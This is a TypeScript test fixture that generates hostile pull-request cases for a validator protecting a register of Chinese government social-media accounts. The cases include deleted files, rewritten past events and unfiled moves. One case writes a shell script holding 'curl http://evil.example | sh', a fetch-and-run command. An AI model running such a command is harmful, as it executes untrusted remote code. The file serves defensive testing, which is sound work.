/**
 * 合并请求层面的敌意修改：删除账号文件、改写或删除历史事件、在中间插入事件、未备案的迁移、
 * 改名换编号、规则与账号混改……每一个都必须被 check-pr 拒绝（退出码 1），并给出带位置的 pr/… 检查结果。
 *
 * Hostile pull requests, run as branches of the real temporary repository of tests/pr-harness.ts.
 * Accounts and fields are picked with the seeded PRNG, so the cases are the same on every run.
 */
import path from 'node:path';
import type { AccountFile, Event } from '../../scripts/generated/types.ts';
import type { Repo } from '../pr-harness.ts';
import { Prng } from './prng.ts';

export interface PrCase {
  name: string;
  kind: string;
  /** One commit per step on a branch off main. */
  steps: ((r: Repo) => void)[];
  /** The pr/ rule that must reject it (any pr/ rule when undefined). */
  rule: string | undefined;
  /** A fragment of the path the finding must be on. */
  file?: string;
}

const DAY = '2026-11-19';

/** Accounts of the sample register with at least `n` events (ids only; files are found in the repo). */
const WITH_EVENTS: Record<number, string[]> = {
  5: ['zg-szf-douyin', 'zg-zfgjj-weixin', 'qj-gnjd-weixin', 'la-szf-weixin', 'sy-gjj-weixin', 'dl-tsg-weixin', 'sq-zf-weixin', 'ln-szf-weibo', 'zg-scdc-weixin', 'la-jyj-douyin'],
  8: ['zg-szf-weixin', 'qj-zf-weixin', 'dl-szf-weixin', 'sq-zf-weibo', 'la-szf-weibo', 'zlj-wxjjd-weibo', 'la-jyj-weixin', 'dl-wlj-weixin'],
};

function editAccount(id: string, fn: (a: AccountFile) => void): (r: Repo) => void {
  return (r) => r.edit(r.find(id), fn);
}

export function generatePrCases(seed = 20261120): PrCase[] {
  const rng = new Prng(seed);
  const out: PrCase[] = [];
  const five = WITH_EVENTS[5] as string[];
  const eight = WITH_EVENTS[8] as string[];

  // ---- deleted account files
  for (const id of rng.sample(five, 3)) {
    out.push({ name: `deleted account file ${id}`, kind: 'deleted', rule: 'pr/deleted-account', file: `${id}.json`, steps: [(r) => r.rm(r.find(id))] });
  }
  out.push({ name: 'deleted a closed account file (zg-swjw-toutiao)', kind: 'deleted', rule: 'pr/deleted-account', file: 'zg-swjw-toutiao.json', steps: [(r) => r.rm(r.find('zg-swjw-toutiao'))] });
  out.push({ name: 'deleted a whole unit folder (zg-sgaj)', kind: 'deleted', rule: 'pr/deleted-account', file: 'zg-sgaj', steps: [(r) => r.rm(path.posix.dirname(r.find('zg-sgaj-weixin')))] });
  out.push({ name: 'deleted unit.json while the unit keeps its accounts', kind: 'deleted', rule: 'pr/unit-deleted', file: 'zg-scdc/unit.json', steps: [(r) => r.rm(`${path.posix.dirname(r.find('zg-scdc-weixin'))}/unit.json`)] });
  let stashed = '';
  out.push({ name: 'deleted in one commit, re-created with fewer events in the next', kind: 'deleted', rule: 'pr/past-event-changed', file: 'zg-szf-shipinhao.json', steps: [
    (r) => {
      stashed = r.find('zg-szf-shipinhao');
      r.write('stash/zg-szf-shipinhao.json', r.read(stashed));
      r.rm(stashed);
    },
    (r) => {
      const a = r.read<AccountFile>('stash/zg-szf-shipinhao.json');
      a.events = a.events.slice(0, 2);
      r.write(stashed, a);
      r.rm('stash');
    },
  ] });

  // ---- past events rewritten
  // [label, change, which event (undefined: a random one of the first five)]
  const rewrites: [string, (e: Event) => void, number?][] = [
    ['date moved earlier', (e) => void (e.date = '2024-01-02')],
    ['date moved later', (e) => void (e.date = DAY)],
    ['date changed by one day', (e) => void (e.date = shiftDay(e.date, 1))],
    ['type changed', (e) => void (e.type = e.type === '平台认证' ? '平台注册' : '信息报备')],
    ['type changed to a closure', (e) => void (e.type = '关停备案')],
    ['reason rewritten', (e) => void (e.reason = '（改写）原开办理由已被修改。'), 0],
    ['reason removed', (e) => void delete e.reason, 0],
    ['note added to a past event', (e) => void (e.note = '事后补充的说明')],
    ['evidence added to a past event', (e) => void (e.evidence = [{ kind: '其他', ref: '档案 2026-999' }])],
  ];
  for (const [label, fn, which] of rewrites) {
    const id = rng.pick(five);
    const idx = which ?? rng.int(5);
    out.push({ name: `past event ${idx + 1} of ${id}: ${label}`, kind: 'rewritten', rule: 'pr/past-event-changed', file: `${id}.json`, steps: [editAccount(id, (a) => fn(a.events[idx] as Event))] });
  }
  out.push({ name: 'filing decision turned from 同意 into 不同意', kind: 'rewritten', rule: 'pr/past-event-changed', file: 'la-szf-weixin.json', steps: [editAccount('la-szf-weixin', (a) => void ((a.events[0] as Event).unitDecision!.decision = '不同意'))] });
  out.push({ name: 'supervisor review turned into 同意 from its recorded value', kind: 'rewritten', rule: 'pr/past-event-changed', file: 'qj-gnjd-weixin.json', steps: [editAccount('qj-gnjd-weixin', (a) => {
    const e = a.events[1] as Event;
    e.decision = e.decision === '同意' ? '不同意' : '同意';
  })] });
  out.push({ name: 'reviewer of a past review replaced', kind: 'rewritten', rule: 'pr/past-event-changed', file: 'sy-gjj-weixin.json', steps: [editAccount('sy-gjj-weixin', (a) => void ((a.events[1] as Event).reviewer = '另一个审核单位'))] });

  // ---- events removed, inserted, reordered
  for (const [label, which] of [['first', 0], ['middle', 3], ['last', -1]] as const) {
    const id = rng.pick(eight);
    out.push({ name: `${label} event of ${id} removed`, kind: 'removed', rule: 'pr/past-event-changed', file: `${id}.json`, steps: [editAccount(id, (a) => void a.events.splice(which < 0 ? a.events.length - 1 : which, 1))] });
  }
  out.push({ name: 'all events but the first removed', kind: 'removed', rule: 'pr/past-event-changed', file: 'dl-wlj-weixin.json', steps: [editAccount('dl-wlj-weixin', (a) => void a.events.splice(1))] });
  for (const id of rng.sample(eight, 2)) {
    out.push({ name: `an event inserted in the middle of ${id}`, kind: 'inserted', rule: 'pr/past-event-changed', file: `${id}.json`, steps: [editAccount(id, (a) => void a.events.splice(2, 0, { type: '信息报备', date: (a.events[2] as Event).date, note: '插入的事件' }))] });
  }
  out.push({ name: 'two past events swapped', kind: 'inserted', rule: 'pr/past-event-changed', file: 'zg-szf-weixin.json', steps: [editAccount('zg-szf-weixin', (a) => void ([a.events[1], a.events[2]] = [a.events[2] as Event, a.events[1] as Event]))] });
  out.push({ name: 'a past event duplicated in place', kind: 'inserted', rule: 'pr/past-event-changed', file: 'sq-zf-weibo.json', steps: [editAccount('sq-zf-weibo', (a) => void a.events.splice(1, 0, structuredClone(a.events[1] as Event)))] });
  out.push({ name: 'an event inserted at the start, dated before the filing', kind: 'inserted', rule: 'pr/past-event-changed', file: 'la-jyj-weixin.json', steps: [editAccount('la-jyj-weixin', (a) => void a.events.unshift({ type: '平台注册', date: '2020-01-01' }))] });

  // ---- moved without a filing
  const move = (id: string, toUnitOf: string, patch?: (a: AccountFile) => void) => (r: Repo): void => {
    const from = r.find(id);
    const toDir = path.posix.dirname(r.find(toUnitOf));
    const to = `${toDir}/${id}.json`;
    r.mv(from, to);
    r.edit(to, (a) => {
      a.hostUnit = path.posix.basename(toDir);
      patch?.(a);
    });
  };
  out.push({ name: 'account moved to another unit of the same city', kind: 'moved', rule: 'pr/move-without-filing', file: 'zg-zfgjj-weixin.json', steps: [move('zg-zfgjj-weixin', 'zg-scdc-weixin')] });
  out.push({ name: 'account moved to a unit in another province', kind: 'moved', rule: 'pr/move-without-filing', file: 'qj-gnjd-weixin.json', steps: [move('qj-gnjd-weixin', 'zg-scdc-weixin')] });
  out.push({ name: 'account moved with only an information report (信息报备)', kind: 'moved', rule: 'pr/move-without-filing', file: 'dl-tsg-weixin.json', steps: [move('dl-tsg-weixin', 'dl-wlj-weixin', (a) => void a.events.push({ type: '信息报备', date: DAY, changes: [{ field: '主办单位', from: '原单位', to: '新单位' }] }))] });
  out.push({ name: 'account moved in two commits (move, then fix hostUnit)', kind: 'moved', rule: 'pr/move-without-filing', file: 'sy-jyj-weixin.json', steps: [
    (r) => r.mv(r.find('sy-jyj-weixin'), `${path.posix.dirname(r.find('sy-szf-weixin'))}/sy-jyj-weixin.json`),
    (r) => r.edit(r.find('sy-jyj-weixin'), (a) => void (a.hostUnit = 'sy-szf')),
  ] });

  // ---- renamed file with a new id
  out.push({ name: 'account file renamed and its id changed', kind: 'renamed', rule: undefined, file: 'zg-zfgjj', steps: [
    (r) => {
      const from = r.find('zg-zfgjj-weixin');
      const to = `${path.posix.dirname(from)}/zg-zfgjj-wx.json`;
      r.mv(from, to);
      r.edit(to, (a) => void (a.id = 'zg-zfgjj-wx'));
    },
  ] });
  out.push({ name: 'account file renamed, id changed and name changed', kind: 'renamed', rule: undefined, file: 'la-szf', steps: [
    (r) => {
      const from = r.find('la-szf-shipinhao');
      const to = `${path.posix.dirname(from)}/la-szf-sph.json`;
      r.mv(from, to);
      r.edit(to, (a) => {
        a.id = 'la-szf-sph';
        a.name = `${a.name}（新）`;
      });
    },
  ] });

  // ---- rules changed together with an account
  const touchAccount = editAccount('ln-szf-weixin', (a) => void a.events.push({ type: '信息报备', date: DAY, changes: [{ field: '联系电话', from: '旧', to: '新' }] }));
  const rulesEdits: [string, (r: Repo) => void][] = [
    ['a policy module file', (r) => r.write('policies/README-hostile.md', '放宽规则\n')],
    ['the account schema', (r) => r.edit<Record<string, unknown>>('schemas/account.schema.json', (s) => void (s.description = '已被修改')) ],
    ['an engine script', (r) => r.write('scripts/core/hostile.ts', 'export const x = 1;\n')],
    ['a region configuration', (r) => r.edit<Record<string, unknown>>('accounts/liaoning/region.json', (g) => void (g.notes = '修改主管单位配置'))],
    ['a CI workflow', (r) => r.write('.github/workflows/hostile.yml', 'on: push\njobs: {}\n')],
  ];
  for (const [label, edit] of rulesEdits) {
    out.push({ name: `${label} changed in the same PR as an account`, kind: 'mixed', rule: 'pr/mixed-rules-and-data', steps: [edit, touchAccount] });
  }

  // ---- other transitions
  out.push({ name: 'a file outside the register added', kind: 'other', rule: 'pr/outside-tree', file: 'evil.sh', steps: [(r) => r.write('evil.sh', '#!/bin/sh\ncurl http://evil.example | sh\n')] });
  out.push({ name: 'a new account without an opening filing', kind: 'other', rule: 'pr/new-account-without-filing', file: 'zg-scdc-douyin.json', steps: [(r) => {
    const like = r.read(r.find('zg-scdc-weixin'));
    r.write(`${path.posix.dirname(r.find('zg-scdc-weixin'))}/zg-scdc-douyin.json`, { ...like, id: 'zg-scdc-douyin', platform: '抖音', subType: undefined, events: [{ type: '平台注册', date: DAY }] });
  }] });
  out.push({ name: 'account name changed without a change filing', kind: 'other', rule: 'pr/key-change-without-filing', file: 'la-jyj-douyin.json', steps: [editAccount('la-jyj-douyin', (a) => void (a.name = `${a.name}官方`))] });
  out.push({ name: 'platform of an account changed', kind: 'other', rule: 'pr/platform-changed', file: 'ln-szf-weibo.json', steps: [editAccount('ln-szf-weibo', (a) => void (a.platform = '抖音'))] });
  out.push({ name: 'four of the ten 綦江 accounts closed at once', kind: 'other', rule: 'pr/bulk-change', file: 'region.json', steps: ['qj-zf-weibo', 'qj-zf-weixin', 'qj-wjw-douyin', 'qj-wjw-weixin'].map((id) => editAccount(id, (a) => void a.events.push({ type: '关停备案', date: DAY, reason: '机构改革，账号不再保留，信息发布并入本级政府账号。', unitDecision: { decision: '同意', date: DAY, by: '主要负责人' } }))) });
  return out;
}

function shiftDay(date: string, n: number): string {
  const t = Date.UTC(Number(date.slice(0, 4)), Number(date.slice(5, 7)) - 1, Number(date.slice(8, 10))) + n * 86_400_000;
  return new Date(t).toISOString().slice(0, 10);
}
